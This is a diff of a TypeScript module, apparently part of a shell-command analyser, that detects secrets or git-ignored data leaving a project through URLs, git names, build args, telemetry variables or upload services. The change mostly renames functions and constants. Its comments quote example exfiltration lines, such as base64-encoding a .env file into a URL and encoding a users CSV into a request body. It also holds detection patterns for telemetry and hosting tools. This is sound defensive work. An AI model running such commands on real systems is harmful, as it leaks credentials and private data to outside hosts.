@@ -1,49 +1,49 @@
-import { baseOf } from '../base-name.ts'
+import { commandBaseName } from '../base-name.ts'
 import type { Effect } from '../effects.ts'
 import type { Facts } from '../facts.ts'
-import { addressOf, urlParts } from '../hosts.ts'
+import { classifyHost, urlParts } from '../hosts.ts'
 import { isKeptData } from '../ignored-data.ts'
 import type { PathUse } from '../paths.ts'
-import { families, familyFor } from '../programs/registry.ts'
+import { createFamilySet, familyFor } from '../programs/registry.ts'
 import { isSecretName, isSecretOrigin } from '../secrets.ts'
 import { isSendingWord } from '../sending-words.ts'
 import { wordsOf } from '../verbs.ts'
 import type { Command, DataSource, Word } from '../words.ts'
-import { stateKeptOut } from './kept-out.ts'
-import type { CoreScribe } from './scribe.ts'
-import { optionAt } from './slots.ts'
-import { carriedSources } from './values.ts'
+import { recordKeptOut } from './kept-out.ts'
+import type { CoreRecorder } from './scribe.ts'
+import { optionBefore } from './slots.ts'
+import { withCarriedSecrets } from './values.ts'
 
 /** The same for a command that only starts another: what is set for it is set for that one. */
-export function stateCarriedThrough(command: Command, scribe: CoreScribe): void {
-  stateNames(command, scribe)
-  stateTelemetry(command, scribe)
+export function recordWrapperSecrets(command: Command, recorder: CoreRecorder): void {
+  recordSecretsInNames(command, recorder)
+  recordTelemetrySecrets(command, recorder)
 }
 
 /** What the content of a secret file is put into, word by word, whatever the program: an address, a name that git keeps, a build, telemetry. */
-export function stateCarriedWords(command: Command, stated: readonly Effect[], scribe: CoreScribe): void {
+export function recordEmbeddedSecrets(command: Command, stated: readonly Effect[], recorder: CoreRecorder): void {
   const sent = stated.some((effect) => effect.kind === 'send-data' && effect.payload.some(isSecretOrigin))
   if (sent) return
-  stateAddresses(command, scribe)
-  stateNames(command, scribe)
-  stateTelemetry(command, scribe)
-  stateIgnoredData(command, scribe)
-  stateKeptOut(command, scribe)
+  recordSecretsInAddresses(command, recorder)
+  recordSecretsInNames(command, recorder)
+  recordTelemetrySecrets(command, recorder)
+  recordIgnoredDataUpload(command, recorder)
+  recordKeptOut(command, recorder)
 }
 
-function filesIn({ sources }: Pick<Word, 'sources'>, facts: Facts): readonly DataSource[] {
+function secretFilesIn({ sources }: Pick<Word, 'sources'>, facts: Facts): readonly DataSource[] {
   if (sources.length === 0) return []
-  return carriedSources(sources, facts).filter((source) => source.kind === 'file' && isSecretOrigin(source))
+  return withCarriedSecrets(sources, facts).filter((source) => source.kind === 'file' && isSecretOrigin(source))
 }
 
 /** `git ls-remote https://host/$(base64 .env)`: whoever asks for an address tells it. */
-function stateAddresses({ args }: Command, scribe: CoreScribe): void {
+function recordSecretsInAddresses({ args }: Command, recorder: CoreRecorder): void {
   for (const word of args) {
     if (!word.dynamic || !word.known.includes('://')) continue
     const { host } = urlParts(word.known.slice(word.known.search(/[a-z][a-z0-9+.-]*:\/\//i)))
-    const payload = filesIn(word, scribe.facts)
-    if (payload.length > 0 && addressOf(host) !== 'loopback')
-      scribe.effect({
+    const payload = secretFilesIn(word, recorder.facts)
+    if (payload.length > 0 && classifyHost(host) !== 'loopback')
+      recorder.effect({
         kind: 'send-data',
         host: host.replaceAll('\0', '…'),
         channel: 'other',
@@ -54,35 +54,38 @@ function stateAddresses({ args }: Command, scribe: CoreScribe): void {
 }
 
 /** Branches, tags and notes go with the next push; what a build is given stays in the image. */
-function stateNames(command: Command, scribe: CoreScribe): void {
-  const git = baseOf(command) === 'git'
+function recordSecretsInNames(command: Command, recorder: CoreRecorder): void {
+  const git = commandBaseName(command) === 'git'
   if (!git && familyFor(command.name ?? '') !== 'containers') return
   command.args.forEach((word, at) => {
-    if (!word.dynamic || (!git && optionAt(command.args, at) !== 'build-arg' && !word.known.startsWith('--build-arg')))
+    if (
+      !word.dynamic ||
+      (!git && optionBefore(command.args, at) !== 'build-arg' && !word.known.startsWith('--build-arg'))
+    )
       return
-    const [source] = filesIn(word, scribe.facts)
-    if (source) scribe.effect({ kind: 'expose-secret', source, sink: 'file', certainty: 'likely' })
+    const [source] = secretFilesIn(word, recorder.facts)
+    if (source) recorder.effect({ kind: 'expose-secret', source, sink: 'file', certainty: 'likely' })
   })
 }
 
-const TELEMETRY =
+const TELEMETRY_VARIABLES =
   /(?:^|_)(?:OTEL|OTLP|SENTRY|DSN|DD|DATADOG|STATSD|PROXY|ENDPOINT|COLLECTOR|TELEMETRY|TRACES?|TRACING|HONEYCOMB|RELIC|LOGSTASH|SYSLOG|WEBHOOK|EXPORTER|METRICS|ANALYTICS|SEGMENT|REPORT(?:ER)?)(?:_|$)/i
 
 /** A program reports to the place that one variable names, and with it what the others hold that are no credentials. */
-function stateTelemetry({ assignments }: Command, scribe: CoreScribe): void {
+function recordTelemetrySecrets({ assignments }: Command, recorder: CoreRecorder): void {
   if (assignments.length === 0) return
   const places = assignments.flatMap(({ name, value }) => {
-    if (!TELEMETRY.test(name)) return []
+    if (!TELEMETRY_VARIABLES.test(name)) return []
     const host = value.known.includes('://') ? urlParts(value.known).host : /_HOST$/.test(name) ? value.known : ''
-    return host === '' || addressOf(host) === 'loopback' || addressOf(host) === 'private' ? [] : [host]
+    return host === '' || classifyHost(host) === 'loopback' || classifyHost(host) === 'private' ? [] : [host]
   })
   const [host] = places
   if (host === undefined) return
   const payload = assignments.flatMap(({ name, value }) =>
-    isSecretName(name) && !value.known.includes('://') ? [] : filesIn(value, scribe.facts),
+    isSecretName(name) && !value.known.includes('://') ? [] : secretFilesIn(value, recorder.facts),
   )
   if (payload.length > 0)
-    scribe.effect({
+    recorder.effect({
       kind: 'send-data',
       host: host.replaceAll('\0', '…'),
       channel: 'http',
@@ -92,9 +95,9 @@ function stateTelemetry({ assignments }: Command, scribe: CoreScribe): void {
 }
 
 /** What a word tells of data files: `--body "$(gzip -c data/users.csv | base64)"`. */
-function contentIn({ sources }: Word, scribe: CoreScribe): readonly PathUse[] {
+function contentIn({ sources }: Word, recorder: CoreRecorder): readonly PathUse[] {
   return sources.flatMap((source) =>
-    source.kind === 'file' && isKeptData(source.path, scribe.facts) ? [scribe.pathOf(source.path)] : [],
+    source.kind === 'file' && isKeptData(source.path, recorder.facts) ? [recorder.pathOf(source.path)] : [],
   )
 }
 
@@ -102,48 +105,49 @@ function contentIn({ sources }: Word, scribe: CoreScribe): readonly PathUse[] {
 function namesPlace({ args, assignments }: Command): boolean {
   const addresses = [
     ...args.map(({ known }) => known),
-    ...assignments.filter(({ name }) => TELEMETRY.test(name)).map(({ value }) => value.known),
+    ...assignments.filter(({ name }) => TELEMETRY_VARIABLES.test(name)).map(({ value }) => value.known),
   ]
   return addresses.some((text) => {
     const start = text.search(/[a-z][a-z0-9+.-]*:\/\//i)
-    return start >= 0 && !/^(?:loopback|private)$/.test(addressOf(urlParts(text.slice(start)).host))
+    return start >= 0 && !/^(?:loopback|private)$/.test(classifyHost(urlParts(text.slice(start)).host))
   })
 }
 
 /** Programs that send what they are given elsewhere, unless a reader of theirs says what and where to. */
-const SENDERS = families(undefined, 'cloud', 'hosting', 'packages', 'build')
-const GIVES = /^(?:deploy\w*|sync|log|artifacts?|datasets?|create|import|ingest|backup)$/
+const UPLOADING_FAMILIES = createFamilySet(undefined, 'cloud', 'hosting', 'packages', 'build')
+const UPLOAD_VERBS = /^(?:deploy\w*|sync|log|artifacts?|datasets?|create|import|ingest|backup)$/
 
 /** A folder or a data file that git ignores is handed to something that uploads: it was kept out of every repository. */
-function stateIgnoredData(command: Command, scribe: CoreScribe): void {
+function recordIgnoredDataUpload(command: Command, recorder: CoreRecorder): void {
   const { name = '', args } = command
-  if (!SENDERS.has(familyFor(name))) return
-  const [content] = args.flatMap((word) => contentIn(word, scribe))
+  if (!UPLOADING_FAMILIES.has(familyFor(name))) return
+  const [content] = args.flatMap((word) => contentIn(word, recorder))
   const operands = args.filter(({ known }) => /^[a-z][a-z:_-]{1,30}$/.test(known)).slice(0, 4)
-  const words = [baseOf(command), ...operands.map(({ known }) => known)].flatMap(wordsOf)
+  const words = [commandBaseName(command), ...operands.map(({ known }) => known)].flatMap(wordsOf)
   const sends = words.some(isSendingWord)
   if (content !== undefined && (sends || namesPlace(command))) {
-    stateHandedOut(content, command, scribe)
+    recordHandedOut(content, command, recorder)
     return
   }
-  if (!sends && !(words.some((word) => GIVES.test(word)) && isService(words))) return
-  for (const path of args.flatMap((word) => namedBy(word, scribe))) if (stateHandedOut(path, command, scribe)) return
+  if (!sends && !(words.some((word) => UPLOAD_VERBS.test(word)) && namesHostingService(words))) return
+  for (const path of args.flatMap((word) => namedBy(word, recorder)))
+    if (recordHandedOut(path, command, recorder)) return
 }
 
-function namedBy({ text: whole }: Word, scribe: CoreScribe): readonly PathUse[] {
+function namedBy({ text: whole }: Word, recorder: CoreRecorder): readonly PathUse[] {
   const text = whole?.replace(/^--?[\w-]+=/, '')
-  return text === undefined || text === '' || text.startsWith('-') || /[:*?]/.test(text) ? [] : [scribe.pathOf(text)]
+  return text === undefined || text === '' || text.startsWith('-') || /[:*?]/.test(text) ? [] : [recorder.pathOf(text)]
 }
 
 /** A person may well have asked for it: what they keep out of git is not secret for that. */
-function stateHandedOut(path: PathUse, command: Command, scribe: CoreScribe): boolean {
+function recordHandedOut(path: PathUse, command: Command, recorder: CoreRecorder): boolean {
   const { real, zone, tags } = path
   if (real === undefined || zone !== 'project' || tags.includes('build-artefact') || path.sessionMade) return false
-  if (!/^(?:file|directory)$/.test(scribe.facts.file(real).kind) || scribe.facts.tracked(real) !== 'ignored')
+  if (!/^(?:file|directory)$/.test(recorder.facts.file(real).kind) || recorder.facts.tracked(real) !== 'ignored')
     return false
-  scribe.effect({
+  recorder.effect({
     kind: 'external-write',
-    service: baseOf(command),
+    service: commandBaseName(command),
     nature: 'file',
     target: path.text,
     certainty: 'likely',
@@ -152,9 +156,9 @@ function stateHandedOut(path: PathUse, command: Command, scribe: CoreScribe): bo
 }
 
 /** Services that hold artefacts, pages and data sets, by what their tools are called. */
-const SERVICES =
+const HOSTING_SERVICES =
   /^(?:vercel|netlify|surge|wandb|kaggle|huggingface|hf|mlflow|neptune|comet|dvc|firebase|wrangler|render|fly|flyctl|railway|heroku|now|surge|gh|glab|supabase|s3|gsutil|b2|rclone|artifactory|jfrog|clearml|aim)$/
 
-function isService(words: readonly string[]): boolean {
-  return words.some((word) => SERVICES.test(word))
+function namesHostingService(words: readonly string[]): boolean {
+  return words.some((word) => HOSTING_SERVICES.test(word))
 }
